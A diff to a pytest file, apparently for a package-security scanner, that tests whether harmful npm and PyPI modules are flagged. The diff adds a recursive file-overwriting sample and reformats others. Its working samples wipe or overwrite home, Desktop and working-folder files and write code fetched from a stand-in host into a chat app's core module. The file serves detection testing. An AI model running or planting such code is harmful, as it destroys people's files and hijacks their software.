@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+from typing import Any
+
 import pytest
 
 from adapters.sigil.local.material import Ecosystem
@@ -26,6 +28,13 @@ _RUIN = {
         "const names = await readdir('../../');\n"
         "await Promise.all(names.map((name) => unlink(path.join('../../', name))));"
     ),
+    "overwrites the working folder": (
+        "const fs = require('fs'), path = require('path');\n"
+        "const go = (folder) => fs.readdirSync(folder).forEach((n) => {\n"
+        "  const full = path.join(folder, n);\n"
+        "  fs.statSync(full).isDirectory() ? go(full) : fs.writeFileSync(full, 'x');\n"
+        "});\ngo(process.cwd());"
+    ),
     "overwrites after asking where it is": (
         "const fs = require('fs');\nfetch('https://geo.invalid/').then((r) => r.json()).then((where) => {\n"
         "  if (where.country === 'XX') fs.readdir('/srv/files', (e, names) => names.forEach((name) =>\n"
@@ -48,11 +57,14 @@ _RUIN_IN_PYTHON = {
         "import os\nfor folder, _, names in os.walk(os.path.expanduser('~')):\n    for name in names:\n"
         "        os.remove(os.path.join(folder, name))\n"
     ),
-    "empties with glob": "import glob, os\nfor n in glob.glob(os.path.expanduser('~/Desktop/*')):\n    open(n, 'w').close()\n",
+    "empties with glob": (
+        "import glob, os\nfor n in glob.glob(os.path.expanduser('~/Desktop/*')):\n    open(n, 'w').close()\n"
+    ),
 }
 _REWRITES = {
     "fetched code into a desktop application": (
-        "const fs = require('fs'), path = require('path');\nconst base = path.join(process.env.LOCALAPPDATA, 'Chatter');\n"
+        "const fs = require('fs'), path = require('path');\n"
+        "const base = path.join(process.env.LOCALAPPDATA, 'Chatter');\n"
         "for (const name of fs.readdirSync(base)) {\n"
         "  const file = path.join(base, name, 'modules', 'discord_desktop_core', 'index.js');\n"
         "  fetch('https://code.invalid/a.js').then((r) => r.text()).then((code) => fs.writeFileSync(file, code));\n}"
@@ -78,7 +90,8 @@ _TWINS = {
         "for (const n of fs.readdirSync(dir)) fs.rmSync(path.join(dir, n));"
     ),
     "copies templates": (
-        "const fs = require('fs'), path = require('path');\nexports.make = (from, to) => { for (const n of fs.readdirSync(from))"
+        "const fs = require('fs'), path = require('path');\n"
+        "exports.make = (from, to) => { for (const n of fs.readdirSync(from))"
         " fs.writeFileSync(path.join(to, n), fs.readFileSync(path.join(from, n), 'utf8').replace(/NAME/g, to)); };"
     ),
     "formats what it is given": (
@@ -102,7 +115,7 @@ _TWINS_IN_PYTHON = {
 
 
 @pytest.mark.parametrize("code", _RUIN.values(), ids=_RUIN)
-def test_ruin(code: str, pack, outcome) -> None:
+def test_ruin(code: str, pack: Any, outcome: Any) -> None:
     """Whoever requires a module that ruins a person's files is warned."""
     found = outcome(pack({"package.json": {"name": "sample", "main": "index.js"}, "index.js": code}))
     assert found.dangerous
@@ -110,7 +123,7 @@ def test_ruin(code: str, pack, outcome) -> None:
 
 
 @pytest.mark.parametrize("code", _RUIN_IN_PYTHON.values(), ids=_RUIN_IN_PYTHON)
-def test_ruin_in_python(code: str, pack, outcome) -> None:
+def test_ruin_in_python(code: str, pack: Any, outcome: Any) -> None:
     """Whoever imports a module that ruins a person's files is warned."""
     found = outcome(pack({"sample/__init__.py": code}, Ecosystem.PYPI, "sample-1.0.0-py3-none-any.whl"))
     assert found.dangerous
@@ -118,14 +131,14 @@ def test_ruin_in_python(code: str, pack, outcome) -> None:
 
 
 @pytest.mark.parametrize("code", _REWRITES.values(), ids=_REWRITES)
-def test_rewritten_programs(code: str, pack, outcome) -> None:
+def test_rewritten_programs(code: str, pack: Any, outcome: Any) -> None:
     """Whoever requires a module that rewrites another program's code is warned."""
     found = outcome(pack({"package.json": {"name": "sample", "main": "index.js"}, "index.js": code}))
     assert found.dangerous
     assert {"code-injection", "foreign-code-rewritten"} & found.rules(PhaseName.CODE_PATTERNS)
 
 
-def test_rewritten_module_in_python(pack, outcome) -> None:
+def test_rewritten_module_in_python(pack: Any, outcome: Any) -> None:
     """Code that a Python package brings along into another package is found."""
     code = (
         "import os, site\ntarget = os.path.join(site.getsitepackages()[0], 'requests', 'api.py')\n"
@@ -136,14 +149,14 @@ def test_rewritten_module_in_python(pack, outcome) -> None:
 
 
 @pytest.mark.parametrize("code", _TWINS.values(), ids=_TWINS)
-def test_everyday_code(code: str, pack, outcome) -> None:
+def test_everyday_code(code: str, pack: Any, outcome: Any) -> None:
     """What cleans its own folders, copies, formats and patches itself is left alone."""
     found = outcome(pack({"package.json": {"name": "sample", "main": "index.js"}, "index.js": code}))
     assert found.score < 10, found.rules(PhaseName.CODE_PATTERNS)
 
 
 @pytest.mark.parametrize("code", _TWINS_IN_PYTHON.values(), ids=_TWINS_IN_PYTHON)
-def test_everyday_python(code: str, pack, outcome) -> None:
+def test_everyday_python(code: str, pack: Any, outcome: Any) -> None:
     """What removes generated files is left alone."""
     found = outcome(pack({"sample/__init__.py": code}, Ecosystem.PYPI, "sample-1.0.0-py3-none-any.whl"))
     assert found.score < 10, found.rules(PhaseName.CODE_PATTERNS)
